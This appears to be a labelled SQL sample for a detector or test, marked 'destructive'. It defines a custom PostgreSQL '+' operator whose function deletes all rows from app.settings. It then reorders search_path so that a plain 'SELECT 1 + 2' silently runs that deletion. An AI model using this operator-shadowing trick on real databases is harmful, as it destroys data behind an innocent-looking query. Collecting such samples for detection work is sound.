-- class: destructive|unknown
-- found by the search path
CREATE FUNCTION app.opf(int, int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN DELETE FROM app.settings; RETURN true; END $$;
CREATE OPERATOR app.+ (LEFTARG = int, RIGHTARG = int, FUNCTION = app.opf);
SET search_path = app, pg_catalog;
SELECT 1 + 2;
